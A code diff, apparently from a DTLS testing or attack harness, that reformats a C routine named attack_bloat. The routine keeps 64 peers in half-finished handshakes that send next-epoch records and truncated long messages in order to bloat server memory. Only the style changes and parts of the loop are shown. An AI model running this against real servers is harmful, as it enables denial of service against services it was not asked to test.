@@ -1,18 +1,27 @@
-// Handshakes that stop after the hello with the cookie, and send what only comes later: records of the next epoch, and the
-// first bytes of messages that say they are long. Each may be kept until the handshake ends.
+// Handshakes that stop after the hello with the cookie, and send what only comes later: records of the next epoch, and
+// the first bytes of messages that say they are long. Each may be kept until the handshake ends.
 #include "attack.h"
 
 #include <string.h>
 #include <sys/socket.h>
 #include <unistd.h>
 
-enum { PEERS = 64, PAUSE_US = 2000, DATAGRAM_BYTES = 13 + 64, RECORD_HANDSHAKE = 22, MESSAGE_FINISHED = 20, LONG_MESSAGES = 10 };
+enum {
+    PEERS = 64,
+    PAUSE_US = 2000,
+    DATAGRAM_BYTES = 13 + 64,
+    RECORD_HANDSHAKE = 22,
+    MESSAGE_FINISHED = 20,
+    LONG_MESSAGES = 10
+};
 #define LIFE_S 9.0
 #define STEP_S 0.05
 
 static size_t put(uint8_t *out, size_t at, uint64_t value, int bytes)
 {
-    for (int i = bytes - 1; i >= 0; i--) out[at++] = (uint8_t)(value >> 8 * i);
+    for (int i = bytes - 1; i >= 0; i--) {
+        out[at++] = (uint8_t)(value >> 8 * i);
+    }
     return at;
 }
 
@@ -45,9 +54,13 @@ void attack_bloat(attack *a)
         for (int i = 0; i < PEERS; i++) {
             double now_s = attack_now_s();
             char byte;
-            if (peers[i].state == PEER_CLOSED || (peers[i].state != PEER_NONE && now_s > peers[i].since_s + LIFE_S)) peer_end(&peers[i]);
+            if (peers[i].state == PEER_CLOSED || (peers[i].state != PEER_NONE && now_s > peers[i].since_s + LIFE_S)) {
+                peer_end(&peers[i]);
+            }
             if (peers[i].state == PEER_NONE) {
-                if (!peer_begin(a, &peers[i])) continue;
+                if (!peer_begin(a, &peers[i])) {
+                    continue;
+                }
                 steps[i] = 1;
                 peer_step(a, &peers[i]);
             } else if (steps[i] == 1 && recv(peers[i].fd, &byte, 1, MSG_PEEK) > 0) {
@@ -60,5 +73,7 @@ void attack_bloat(attack *a)
         }
         usleep(PAUSE_US);
     }
-    for (int i = 0; i < PEERS; i++) peer_end(&peers[i]);
+    for (int i = 0; i < PEERS; i++) {
+        peer_end(&peers[i]);
+    }
 }
